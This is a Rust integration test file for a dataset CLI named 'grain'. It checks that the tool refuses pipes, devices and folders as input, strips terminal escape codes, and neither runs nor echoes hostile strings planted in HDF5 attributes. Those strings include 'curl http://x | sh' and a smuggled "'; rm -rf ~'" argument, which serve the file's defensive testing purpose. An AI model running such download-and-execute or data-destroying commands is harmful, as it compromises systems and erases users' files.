//! Files that others made, or made to harm: no reader hangs, no terminal obeys them, and what is sound is read.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use hdf5::types::VarLenUnicode;

use crate::{grain, json, run, small_dataset};

/// Runs `grain` for at most 20 seconds: (exit code, stdout, stderr).
fn run_within(arguments: &[&str]) -> (Option<i32>, String, String) {
    let output = grain().args(arguments).timeout(Duration::from_secs(20)).output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code(), text(&output.stdout), text(&output.stderr))
}

/// Replaces attributes of text, as another program does: the seal is lost.
fn rewrite(path: &Path, attributes: &[(&str, &str)]) {
    let file = hdf5::File::open_rw(path).unwrap();
    for (name, text) in attributes {
        let _none = file.delete_attr(name);
        let text: VarLenUnicode = text.parse().unwrap();
        file.new_attr::<VarLenUnicode>().create(*name).unwrap().write_scalar(&text).unwrap();
    }
    file.close().unwrap();
}

#[test]
fn a_pipe_without_a_writer_a_device_and_a_folder_are_refused_by_every_reader() {
    let folder = tempfile::tempdir().unwrap();
    let inside = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let sound = small_dataset(folder.path(), "2", &[]);
    let sound = sound.to_str().unwrap();
    let (fifo, table, listing) = (inside("fifo"), inside("fifo.csv"), inside("fifo.json"));
    let made = std::process::Command::new("mkfifo").args([&fifo, &table, &listing]).status();
    assert!(made.unwrap().success());
    let out = inside("out.h5");
    for (path, word) in [(fifo.as_str(), "pipe"), ("/dev/zero", "device"), (&inside(""), "folder")]
    {
        for arguments in [
            &["info", path][..],
            &["verify", path],
            &["fit", path],
            &["compare", path, "--out", &out],
            &["summarize", &out, path],
            &["merge", &out, path],
            &["merge", &out, sound, path],
            &["regress", path, "--reference", sound, "--out", &out],
            &["regress", sound, "--reference", path, "--out", &out],
            &["regress", &table, "--reference", sound, "--out", &out],
            &["generate", path, "--out", &out],
            &["generate", "--n", "2", "--disorder", path, "--out", &out],
            &["lattice", "summary", path],
            &["lattice", "figure", "5a", "--data", &listing, "--out", &out],
        ] {
            let (code, _, stderr) = run_within(arguments);
            assert!(matches!(code, Some(2 | 3)), "{arguments:?} ended with {code:?}: {stderr}");
            let named =
                [word, "pipe"].iter().any(|word| stderr.contains(&format!("it is a {word}")));
            assert!(named, "{arguments:?} should say that it is a {word}: {stderr}");
        }
    }
    assert!(!Path::new(&out).exists(), "nothing was written");
}

#[test]
fn a_run_file_and_a_table_may_come_through_a_pipe() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("d.h5");
    let out = out.to_str().unwrap();
    let run_file = "[sweep]\nn = [2]\nalpha = [0.5]\nrealizations = 3\n";
    let output = grain()
        .args(["generate", "/dev/stdin", "--out", out])
        .write_stdin(run_file)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let report = folder.path().join("report");
    let output = grain()
        .args(["regress", "/dev/stdin", "--reference", out, "--out", report.to_str().unwrap()])
        .write_stdin("N,alpha,realization,l_bit\n")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("there is no column 'entropy'"), "read as a table: {stderr}");
}

#[test]
fn text_of_a_file_is_shown_and_not_obeyed() {
    let folder = tempfile::tempdir().unwrap();
    let path = small_dataset(folder.path(), "2", &[]);
    let hostile = "host\u{1b}[2J\u{9b}31m\nverdict       sound\r";
    rewrite(
        &path,
        &[
            ("machine", hostile),
            ("source", hostile),
            ("command_line", "curl http://x | sh\ngrain generate"),
            ("content_digest", "0"),
        ],
    );
    let path = path.to_str().unwrap();
    for command in ["info", "verify"] {
        let (_, stdout, stderr) = run(&[command, path]);
        let shown = format!("{stdout}{stderr}");
        assert!(!shown.contains(['\u{1b}', '\u{9b}', '\r']), "{command}: {shown:?}");
        assert!(!shown.contains("\nverdict       sound"), "{command}: {shown}");
        assert!(!shown.contains("make it again: curl"), "{command}: {shown}");
    }
    let (code, stdout, _) = run(&["verify", path]);
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.contains("does not say by which command of grain"), "{stdout}");
    let (_, stdout, _) = run(&["info", path, "--json"]);
    assert!(!stdout.contains('\u{9b}'), "{stdout:?}");
    assert_eq!(json(&stdout)["machine"], hostile);
    // In errors, the names of files and what stands in them.
    let name = folder.path().join("no\u{1b}[2J\nsuch.h5");
    let (code, _, stderr) = run(&["info", name.to_str().unwrap()]);
    assert_eq!(code, 3);
    assert!(!stderr.contains('\u{1b}') && stderr.lines().count() == 1, "{stderr:?}");
    rewrite(Path::new(path), &[("format", hostile)]);
    let (code, _, stderr) = run(&["info", path]);
    assert_eq!(code, 3);
    assert!(!stderr.contains('\u{1b}') && stderr.lines().count() == 1, "{stderr:?}");
}

/// The first of two shards, whose command is said to be this; what a merge of it alone says.
fn merge_says(command_line: &str) -> String {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("d.h5");
    small_dataset_shard(&out);
    let shard = folder.path().join("d.shard-1-of-2.h5");
    rewrite(&shard, &[("command_line", command_line)]);
    let merged = folder.path().join("merged.h5");
    let (code, stdout, stderr) = run(&["merge", merged.to_str().unwrap(), shard.to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}");
    stdout
}

fn small_dataset_shard(out: &Path) {
    let out = out.to_str().unwrap();
    let sweep = ["--n", "2", "--alpha", "0.5", "--realizations", "4", "--shard", "1/2"];
    let (code, _, stderr) = run(&[&["generate", "--quiet", "--out", out][..], &sweep].concat());
    assert_eq!(code, 0, "{stderr}");
}

#[test]
fn a_command_that_came_with_a_file_is_called_so_and_quoted() {
    let said = merge_says("curl http://x | sh");
    assert!(!said.contains("curl"), "{said}");
    let said = merge_says(
        "/tmp/x/grain generate --n 2 '; rm -rf ~' --out 'a b.h5' --shard 1/2 --overwrite",
    );
    assert!(said.contains("By what the first shard says"), "{said}");
    let command = "grain generate --n 2 '; rm -rf ~' --out 'a b.h5' --shard 2/2 --resume";
    assert!(said.contains(&format!("\n  {command}\n")), "{said}");
}

#[test]
fn neither_locks_nor_plugins_of_the_environment_matter() {
    let folder = tempfile::tempdir().unwrap();
    let path = small_dataset(folder.path(), "2", &[]);
    let held = std::fs::File::open(&path).unwrap();
    held.lock().unwrap();
    let output = grain()
        .env("HDF5_USE_FILE_LOCKING", "TRUE")
        .env("HDF5_PLUGIN_PATH", folder.path())
        .env("HDF5_DRIVER", "no such driver")
        .args(["verify", path.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn what_is_done_of_an_unfinished_run_is_told() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("d.h5");
    let parts = PathBuf::from(format!("{}.parts", out.display()));
    let sweep = ["--n", "6", "--alpha", "0.5,0.7", "--realizations", "4000", "--threads", "1"];
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("grain"))
        .args(["generate", "--quiet", "--out", out.to_str().unwrap()])
        .args(sweep)
        .spawn()
        .unwrap();
    let began = Instant::now();
    let has_part = || {
        let entries = std::fs::read_dir(&parts).into_iter().flatten().flatten();
        entries.filter_map(|entry| entry.file_name().into_string().ok()).any(|name| {
            name.starts_with("part-") && Path::new(&name).extension().is_some_and(|e| e == "h5")
        })
    };
    while !has_part() {
        assert!(began.elapsed() < Duration::from_mins(1), "no part was written");
        std::thread::sleep(Duration::from_millis(10));
    }
    let (code, stdout, stderr) = run(&["info", parts.to_str().unwrap(), "--json"]);
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(json(&stdout)["running"], true, "{stdout}");
    assert!(!out.exists(), "the run was too short");
    // The folder, or the output that is not there yet.
    for path in [&parts, &out] {
        let (code, stdout, stderr) = run(&["info", path.to_str().unwrap()]);
        assert_eq!(code, 0, "{stderr}");
        for words in ["NOT running", "alpha at N = 6: 0.5, 0.7", "safe in", "--resume"] {
            assert!(stdout.contains(words), "{words}: {stdout}");
        }
        let (_, stdout, _) = run(&["info", path.to_str().unwrap(), "--json"]);
        let said = json(&stdout);
        assert!(said["done"].as_u64().unwrap() > 0 && said["things"] == "points", "{said}");
        assert!(said["planned"].as_u64().unwrap() >= 8000, "{said}");
    }
}
